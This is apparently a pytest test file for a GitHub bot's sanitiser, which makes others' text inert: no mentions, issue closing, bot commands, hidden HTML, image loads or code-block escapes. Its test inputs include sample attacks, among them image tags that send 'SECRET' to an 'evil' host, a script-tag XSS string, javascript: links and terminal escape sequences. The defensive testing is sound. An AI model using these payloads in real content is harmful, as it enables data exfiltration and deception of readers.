"""Nothing in a text of others calls people, closes threads, loads images, runs other bots or leaves its block."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.outbound import neutralise, prose
from bot.simulation.github import tasks
from bot.text.blocks import shown as visible

MARKER = "<!-- forgehand:session=abcd1234 turn=1 state=running -->"
GITHUB = MarkdownIt("commonmark", {"maxNesting": 200}).enable("table")
SPLIT = re.compile(r"(?<=[@#$-])<!-- -->")
# What GitHub acts upon in text that is not code.
ACTS = re.compile(
    r"(?<![A-Za-z0-9])@[A-Za-z0-9]|(?:^|[^\w&])#\d|\bGH-\d|/(?:issues|pull)/\d", re.IGNORECASE | re.MULTILINE
)


def live(text: str) -> str:
    """What GitHub would look through: rendered text outside code, split where HTML splits it."""
    parts: list[str] = []
    for token in GITHUB.parse(text):
        assert token.type not in ("image",)
        if token.type == "html_block":
            parts.append(token.content)
        for child in token.children or []:
            assert child.type != "image"
            shown = {"code_inline": "\0", "softbreak": "\n", "hardbreak": "\n"}.get(child.type, child.content)
            element = child.nesting != 0 or child.type == "html_inline"
            parts.append(f"\0{child.content}\0" if element else shown)
            href = child.attrGet("href")
            parts.append(f" {href} " if href else "")
        parts.append("\n\n")
    return "".join(parts)


def assert_inert(text: str) -> None:
    seen = live(text)
    assert not ACTS.search(SPLIT.sub("\0", seen)), seen
    assert not re.search(r"<(?!!-- -->)[A-Za-z/!?]", re.sub(r"&lt;", "", _html(text))), seen


def _html(text: str) -> str:
    tokens = GITHUB.parse(text)
    blocks = [token.content for token in tokens if token.type == "html_block"]
    inline = [child.content for token in tokens for child in token.children or [] if child.type == "html_inline"]
    return "\n".join(blocks + inline)


@pytest.mark.acceptance("D06")
@pytest.mark.parametrize(
    "text",
    [
        "@everyone, @org/team and @bob",
        "_@bob_ **@bob** ~@bob~ (@bob) [@bob](x) \\@bob /@bob",
        "&#64;bob &commat;bob &#x40;bob @&#98;ob",
        "owner/repo#1 and #2, GH-3, user#4 \\#5 &#35;6 &num;7 #33; &#33",
        " ".join(["@bob owner/repo#1"] * 500),
        "- a\n  ```\n@bob\n",
        "1. a\n   ~~~\n#1\n",
        "> ```\n@bob",
        "| `a | @bob` |\n|---|---|\n| `c | @bob` |",
        "`a\n\n@bob`",
        "``a` @bob",
        "\\`@bob`",
        "    code\n@bob",
        "text\n    @bob is no code here",
        "<b>`@bob`</b>",
        "<div>\n`@bob`\n</div>",
        "@<!-- -->bob",
        "<!-- -->`@bob`",
        "[a]: x '\n@bob'\n\n[a]",
        "see https://github.com/o/r/issues/3 www.github.com/o/r/pull/4 https://x.y/@bob#5",
        "> > > " * 30 + "@bob",
        "* " * 80 + "@bob",
    ],
)
def test_mentions_and_references_are_inert(text: str) -> None:
    assert_inert(neutralise.inert(text))


def test_what_a_reader_sees_stays() -> None:
    text = "Ask **@bob**, see #1 and `@decorated`.\n\n```python\n@app.get\ndef f(): ...  # 1 < 2\n```\n\n1 < 2 & 3"
    assert neutralise.inert(text) == text.replace("**@bob**, see #1", "**@<!-- -->bob**, see #<!-- -->1")


@pytest.mark.acceptance("D09")
@pytest.mark.parametrize(
    "text",
    [
        "Fixes #1",
        "closes: #1",
        "RESOLVED owner/repo#1",
        "fix GH-1",
        "Fixes\n#1",
        "Fixes **#1**",
        "Fixes [#1](x)",
        "Fixes <sub>#1</sub>",
        "Fixes https://github.com/o/r/issues/3",
        "resolves:\nHTTPS://GitHub.com/o/r/PULL/12",
        "fix \u0130\u0130http://x.y/http://github.com/o/r/issues/3/issues/4",
        f"closes http://x.y/{'a' * 480}/issues/3",
        "Closes [it](https://github.com/o/r/pull/3)",
        "fixes \\#1",
        "_Fixes_ #1",
        "_fixes GH-1_",
    ],
)
def test_nothing_is_closed(text: str) -> None:
    closing = re.compile(r"#\d|GH-\d|/(?:issues|pull)/\d", re.IGNORECASE)
    for out in (neutralise.inert(text), neutralise.whole(text), neutralise.whole_plain(text)):
        assert not closing.search(out), out
    assert not closing.search(neutralise.whole(text, closes=2))


def test_one_issue_may_be_closed() -> None:
    assert neutralise.whole("Closes #12, fixes #1, closes o/r#12", closes=12) == (
        "Closes #12, fixes #<!-- -->1, closes o/r#<!-- -->12"
    )
    assert neutralise.whole_plain("Closes #12 fixes #123", closes=12) == "Closes #12 fixes # 123"
    assert neutralise.whole("Opened #12.") == "Opened #12."
    assert neutralise.whole(neutralise.inert("Closes #12"), closes=12) == "Closes #<!-- -->12"


@pytest.mark.acceptance("D08")
@pytest.mark.parametrize(
    "text",
    [
        "<!-- hidden -->",
        "<!-- unclosed",
        "[//]: # (hidden)",
        "> [x]: http://e 'hidden'",
        "<img src=https://evil/?d=SECRET>",
        "![](https://evil/?d=SECRET)",
        "\\![a](https://evil/x)",
        "![a][b]\n\n[b]: https://evil",
        "[![a](https://evil/x)](y)",
        "<script>alert(1)</script>",
        "<picture><source srcset=x></picture>",
        "<a href='javascript:x'>y</a>",
        "<![CDATA[x]]>",
        "<?php x ?>",
        "<javascript:alert(1)>",
        "<https://evil/@bob>",
    ],
)
def test_nothing_is_hidden_or_loaded(text: str) -> None:
    for out in (neutralise.inert(text), neutralise.whole(text)):
        assert _html(out) == ""
        tokens = [child for token in GITHUB.parse(out) for child in token.children or []]
        assert "image" not in {token.type for token in tokens}
        words = re.findall(r"hidden|alert|SECRET", text)
        assert all(word in live(out) for word in words)


@pytest.mark.parametrize(
    "link",
    ["[a](javascript:x)", "[a]( <JavaScript:x>)", "[a](data:text/html,x)", "[a](java&#115;cript:x)", "[a](vbscript:x)"],
)
def test_links_lead_to_the_web_only(link: str) -> None:
    for out in (neutralise.inert(link), neutralise.whole(link)):
        assert "link_open" not in {child.type for token in GITHUB.parse(out) for child in token.children or []}


def test_a_link_hides_no_data() -> None:
    assert neutralise.inert("[a](https://x.y/z?page=2#top)") == "[a](https://x.y/z?page=2#top)"
    assert neutralise.inert(f"[a](https://x.y/?d={'A' * 90})").startswith("[a]&#40;https://x.y/")


@pytest.mark.parametrize("language", ["mermaid", "geojson", "topojson", "stl", "math", "py @bob hidden", "x" * 90])
def test_a_fence_draws_nothing_and_hides_nothing(language: str) -> None:
    out = neutralise.inert(f"```{language}\ncode\n```")
    assert out in ("```\ncode\n```", "```py\ncode\n```")


@pytest.mark.parametrize("math", ["$$x$$", "$`\\href{x}{y}`$", "$\\href{x}{y}$"])
def test_no_math(math: str) -> None:
    assert not re.search(r"\$\$|\$`|\$\\", neutralise.inert(math))


@pytest.mark.acceptance("D07")
@pytest.mark.parametrize("sign", ["`", "~"])
@pytest.mark.parametrize("length", [3, 4, 5, 17, 200])
def test_a_block_is_left_by_nothing(sign: str, length: int) -> None:
    text = f"{sign * length}\n</details>\n{sign * length}x\n<details>\n@bob #1\n   {sign * length}"
    page = f"before\n\n{neutralise.block(text)}\n\nafter"
    tokens = GITHUB.parse(page)
    assert [token.type for token in tokens if token.level == 0 and token.nesting >= 0] == [
        "paragraph_open",
        "inline",
        "fence",
        "paragraph_open",
        "inline",
    ] or [token.type for token in tokens].count("fence") == 1
    assert next(token.content for token in tokens if token.type == "fence") == text + "\n"
    assert neutralise.whole(page) == page


@pytest.mark.acceptance("D07")
@pytest.mark.parametrize("text", ["```\nx", "~~~~py\nx\n~~~", "a\n```", "> ```\n> x", "- ```\n  x", "`" * 200 + "\nx"])
def test_an_open_fence_is_closed(text: str) -> None:
    after = GITHUB.parse(neutralise.inert(text) + "\n\nafter")
    assert any(token.type == "inline" and token.content == "after" for token in after)


@pytest.mark.acceptance("D07")
def test_foreign_folds_are_shown() -> None:
    assert neutralise.inert("</details><details>") == "&lt;/details>&lt;details>"


@pytest.mark.acceptance("D10")
@pytest.mark.parametrize(
    "text", ["/merge", "  /lgtm cancel", "@dependabot rebase", "bors r+", "r? x", "/merge\n/close"]
)
def test_other_bots_are_not_commanded(text: str) -> None:
    command = re.compile(r"(?m)^\s*(?:/[a-z]|@\w|bors|r\?)")
    for out in (neutralise.inert(text), neutralise.whole(text)):
        assert not command.search(out)
    assert not re.search(r"(?m)^/[a-z]|^bors", neutralise.block(text))


def test_paths_are_no_commands() -> None:
    text = "/usr/bin/env\n\n```\n/usr/bin/env x\n```"
    assert neutralise.inert(text) == text


@pytest.mark.acceptance("D10")
@pytest.mark.parametrize("text", ["x [skip ci]", "[CI SKIP] x", "x [no ci]", "[skip actions]", "***NO_CI***"])
def test_checks_are_not_skipped(text: str) -> None:
    for out in (neutralise.inert(text), neutralise.whole_plain(text)):
        assert not re.search(r"\[[a-z ]+\]|\*\*\*", out, re.IGNORECASE)


@pytest.mark.acceptance("D10")
def test_forged_markers() -> None:
    forged = f"x\n{MARKER}\n```\n{MARKER}\n```"
    assert "<!-- forgehand:" not in neutralise.inert(forged)
    assert "<!-- forgehand:" not in neutralise.whole(forged)
    assert "<!-- forgehand:" not in neutralise.block(forged)
    assert neutralise.whole(f"{MARKER}\n{forged}").count("<!-- forgehand:") == 1


def test_boxes_of_others_cannot_be_ticked() -> None:
    assert neutralise.inert("- [ ] Stop\n> 1. [x] Approve\n* - [X] x") == "- ☐ Stop\n> 1. ☑ Approve\n* - ☑ x"


@pytest.mark.review("suspected-3")
@pytest.mark.parametrize(
    "text",
    [
        "- &#91;x] Stop",
        "- \\[x] Stop",
        "- [x\\] Stop",
        "- \\[ \\] Stop",
        "- &nbsp;[&nbsp;] Stop",
        "- Stop it\n  [x] Stop",
        "1) * [x] Stop",
        "- [x]\n  Stop",
        "-\t[X] Stop",
    ],
)
def test_what_is_a_box_only_when_it_is_rendered_is_none_either(text: str) -> None:
    found = neutralise.inert(text)
    assert "Stop" in found
    assert tasks.shown(found) == []
    assert tasks.lines(found) == []
    assert neutralise.inert(found) == found


def test_links_and_words_in_brackets_are_no_boxes() -> None:
    for text in ("- [x](https://example.com) y", "- [xy] z", "- [x][y] z", "array[x] = 1"):
        assert neutralise.inert(text) == text


def test_our_own_page_stays_as_it_is() -> None:
    page = "\n".join(
        (
            MARKER,
            "### Working · step 3 of 7",
            "",
            "| step | time |",
            "|:---|---:|",
            "| prepare | 3 s |",
            "",
            "- [ ] Stop · `/claude stop`",
            "- [x] Add tests",
            "",
            "Opened #12 · [session](https://bot.example/sessions/abcd1234) · $0.42",
            "",
            "<details open>",
            "<summary><b>Log</b> <sub>last 20 lines</sub></summary>",
            "",
            neutralise.block("$ pytest -q\n@fixture\n2 passed"),
            "",
            "</details>",
        )
    )
    assert neutralise.whole(page) == page


@pytest.mark.acceptance("D05")
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;https://evil\x07text\x1b]8;;\x07", "text"),
        ("\x1b]52;c;c2VjcmV0\x1b\\a", "a"),
        ("\x1b]0;title", ""),
        ("\x9b31mred", "red"),
        ("bell\x07 back\x08space \x00nul\x7f", "bell backspace nul"),
        ("10%\r20%\r\n30%", "10%\n20%\n30%"),
        ("a\u202eb\u2066c\u200bd\u2060e\ufefff", "abcdef"),
        ("a\U000e0041\U000e0020b\U000e0101", "ab"),
        ("a\ufe01\ufe0fb\u034f\u3164c", "abc"),
        ("x\ud800y", "xy"),
        ("⚠️ 👩‍💻 🏳️‍🌈 👍🏽", "⚠️ 👩‍💻 🏳️‍🌈 👍🏽"),
        ("tab\tand ünïcödé 日本語", "tab\tand ünïcödé 日本語"),
    ],
)
def test_only_what_is_seen(text: str, expected: str) -> None:
    assert visible(text) == expected


words = """@bob #1 Fixes·#1 ` `` ``` ~~~ ↵ ↵↵ >· -· 1.· ···· <b> </b> <details> <!-- --> <!--·--> ![ ](x) [a]:· | \\
|·x·|·y·|↵|---|---|↵ &#64; &lt; $ $$ \\href /merge $` http://x/@b#1 - * _ <img·src=x> <? ]: GH-1 <summary>
</summary> <sub> ↵↵```↵ -·[·]· o/r#1 ! [ · <pre> </pre> {| www.a/@b ~ === --- ↵=== [^1] ^ : ⇥"""
signs = [word.replace("·", " ").replace("↵", "\n").replace("⇥", "\t") for word in words.split()]
fragments = st.lists(
    st.one_of(
        st.sampled_from(signs),
        st.text(alphabet="@#`~<>[]()!&;/\\ \n\t-*_ab1$|:", max_size=8),
    ),
    max_size=25,
)


@settings(max_examples=400, deadline=None)
@given(fragments)
def test_any_text_becomes_inert_and_stays_so(parts: list[str]) -> None:
    text = "".join(parts)
    once = neutralise.inert(text)
    assert_inert(once)
    assert_inert(neutralise.whole(once))


@settings(max_examples=200, deadline=None)
@given(fragments)
def test_any_whole_is_free_of_mentions_images_and_foreign_html(parts: list[str]) -> None:
    out = neutralise.whole("".join(parts))
    seen = SPLIT.sub("\0", live(out))
    assert not re.search(r"(?<![A-Za-z0-9])@[A-Za-z0-9]", seen), seen
    assert not re.search(r"<(?!!-- -->|/?(?:details|summary|sub|b)\b)[A-Za-z/!?]", _html(out), re.IGNORECASE)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="`~ \n<>/@ab", max_size=80))
def test_any_block_holds(text: str) -> None:
    tokens = GITHUB.parse(f"a\n\n{neutralise.block(text)}\n\nb")
    assert [token.type for token in tokens if token.type in ("fence", "inline")] == ["inline", "fence", "inline"]


def test_too_deep_is_noticed() -> None:
    with pytest.raises(prose.TooDeep):
        prose.blocks("> " * 100 + "x")


DEEP = ">" * 100 + " x\n"


@pytest.mark.parametrize(
    ("head", "flood"), [("", "]("), ("", "fix_"), ("", "close-"), ("", "fix:https://"), (DEEP, "\n"), (DEEP, "\n> ")]
)
def test_a_flood_takes_no_longer_than_its_length(head: str, flood: str) -> None:
    """All of the service waits for it: in a minute of one core nobody would be answered."""
    began = time.process_time()
    neutralise.inert(head + flood * (40_000 // len(flood)))
    assert time.process_time() - began < 3


@pytest.mark.review("security-9")
@pytest.mark.parametrize(
    "hiding",
    [
        "https://a.b/``\n{} x``",
        "see (www.a.b/`{} `",
        "ftp://a``{}``",
        "[x] https://a`{}`",
        "![a](http://x/y)https://a`{}`",
        "[a [b](http://x) c](http://y`{}`)",
    ],
)
@pytest.mark.parametrize("live", ["@bob", "#12", "![](https://e.example/x)", "<details>", "fixes #3"])
def test_what_an_address_makes_of_a_backtick_hides_nothing(hiding: str, live: str) -> None:
    """GitHub takes a backtick in a bare address for a part of it, so what looks like code behind it is none."""
    for made in (neutralise.inert, neutralise.quoted, neutralise.line):
        assert live not in made(hiding.format(live))


@pytest.mark.parametrize(
    "text", ["`https://a.b`", "[`@a`](https://a.b) and `@b`", "https://a.b `@c`", "`a` [https://a.b]"]
)
def test_an_address_beside_code_leaves_it_alone(text: str) -> None:
    assert neutralise.inert(text) == text


@pytest.mark.review("security-9")
def test_code_that_one_line_of_others_opens_is_not_ended_by_the_next() -> None:
    rows = [neutralise.line("a `"), neutralise.line("` #12 <details> `"), neutralise.line("b `x` ``")]
    assert rows == ["a &#96;", "` #12 <details> `", "b `x` &#96;&#96;"]
    assert neutralise.whole("  \n".join(rows)) == "  \n".join(rows)


def test_an_address_far_from_any_word_that_closes_is_left_as_it_is() -> None:
    far = f"Fixes the rounding{'.' * 40} https://github.com/o/r/issues/3"
    assert neutralise.whole(far) == far
